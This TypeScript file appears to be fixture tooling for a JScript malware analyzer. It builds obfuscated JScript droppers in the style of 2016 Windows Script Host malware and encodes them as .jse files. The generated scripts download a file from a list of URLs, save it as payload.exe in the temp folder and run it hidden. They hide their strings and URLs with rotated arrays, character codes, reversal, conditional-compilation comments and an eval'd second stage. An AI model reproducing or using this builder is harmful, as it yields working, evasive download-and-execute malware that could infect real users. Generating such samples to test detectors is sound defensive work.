// Builds JScript droppers the way 2016 WSH droppers were built (strings from fromCharCode, a rotated string
// array, split/reverse/join, a URL list behind @cc_on, an eval'd second stage), and encodes scripts as .jse.

import { JSE_COLUMNS, JSE_PICK } from '../../src/analyzers/jscript/jse.ts';

export interface DropperSpec {
  urls: string[];
  /** The command the dropper runs after saving the payload; %FILE% is replaced by the saved path. */
  command: string;
  /** Put the URL list inside a conditional-compilation comment. */
  conditional?: boolean;
  /** Run the download code through eval as a second stage. */
  secondStage?: boolean;
}

const charCodes = (s: string) => `String.fromCharCode(${[...s].map((c) => c.charCodeAt(0)).join(',')})`;
const reversed = (s: string) => `${JSON.stringify([...s].reverse().join('|'))}.split("|").reverse().join("")`;

/** A string array rotated left by `turns`, with the obfuscator's start-up function that rotates it back. */
function rotatedArray(words: string[], turns: number): { setup: string; ref: (word: string) => string } {
  const k = turns % words.length;
  const stored = [...words.slice(words.length - k), ...words.slice(0, words.length - k)];
  const setup =
    `var _0xa1 = ${JSON.stringify(stored)};\n` +
    `(function (arr, n) { var turn = function (k) { while (--k) { arr['push'](arr['shift']()); } }; turn(++n); })(_0xa1, ${k});\n` +
    `var _0xb2 = function (i) { i = i - 0; var v = _0xa1[i]; return v; };\n`;
  return { setup, ref: (word) => `_0xb2('0x${words.indexOf(word).toString(16)}')` };
}

export function dropperScript(spec: DropperSpec): string {
  const words = ['WScript.Shell', 'MSXML2.XMLHTTP', 'ADODB.Stream', 'ExpandEnvironmentStrings', 'SaveToFile', 'GET'];
  // Rotate by one less than a multiple of the length, so the start-up function really has to run.
  const arr = rotatedArray(words, words.length + 3);
  const urlList = `var list = ${JSON.stringify(spec.urls.map((u) => u.split('').reverse().join('')))};`;
  const stage =
    `var sh = new ActiveXObject(${arr.ref('WScript.Shell')});\n` +
    `var path = sh[${arr.ref('ExpandEnvironmentStrings')}](${charCodes('%TEMP%\\')}) + ${reversed('payload.exe')};\n` +
    `for (var i = 0; i < list.length; i++) {\n` +
    `  var url = list[i].split("").reverse().join("");\n` +
    `  try {\n` +
    `    var x = new ActiveXObject(${arr.ref('MSXML2.XMLHTTP')});\n` +
    `    x.open(${arr.ref('GET')}, url, false); x.send();\n` +
    `    if (x.status == 200) {\n` +
    `      var s = new ActiveXObject(${arr.ref('ADODB.Stream')}); s.Open(); s.Type = 1; s.Write(x.ResponseBody);\n` +
    `      s[${arr.ref('SaveToFile')}](path, 2); s.Close();\n` +
    `      sh.Run(${JSON.stringify(spec.command)}.replace("%FILE%", path), 0, false);\n` +
    `      break;\n` +
    `    }\n` +
    `  } catch (e) {}\n` +
    `}\n`;
  const listCode = spec.conditional ? `/*@cc_on\n@if (@_jscript_version >= 5)\n${urlList}\n@end\n@*/\n` : `${urlList}\n`;
  const body = spec.secondStage ? `eval(${JSON.stringify(stage)});\n` : stage;
  return `${arr.setup}${listCode}${body}`;
}

/** Encodes a script the way screnc.exe does (`#@~^…^#~@`), inverting the decoder's table. */
export function encodeJse(source: string): string {
  let body = '';
  let index = -1;
  for (const ch of source) {
    const code = ch.charCodeAt(0);
    if (code < 128) index++;
    const column = JSE_COLUMNS[JSE_PICK[index % 64]!]!;
    const encodable = (code === 9 || (code > 31 && code < 128)) && ch !== '<' && ch !== '>' && ch !== '@';
    let out = ch;
    if (encodable) {
      // Only bytes the decoder translates can carry a character: tab and 32..127 except < > @.
      const at = column.findIndex((c, i) => c === ch && (i === 0 || (i + 9 > 31 && i + 9 !== 60 && i + 9 !== 62 && i + 9 !== 64)));
      if (at >= 0) out = String.fromCharCode(at + 9);
    }
    if (out === '\n') out = '@&';
    else if (out === '\r') out = '@#';
    else if (out === '<') out = '@!';
    else if (out === '>') out = '@*';
    else if (out === '@') out = '@$';
    body += out;
  }
  const b64 = (n: number) => Buffer.from(Uint32Array.of(n).buffer).toString('base64').slice(0, 6);
  let sum = 0;
  for (const ch of source) sum = (sum + ch.charCodeAt(0)) >>> 0;
  return `#@~^${b64(source.length)}==${body}${b64(sum)}==^#~@`;
}
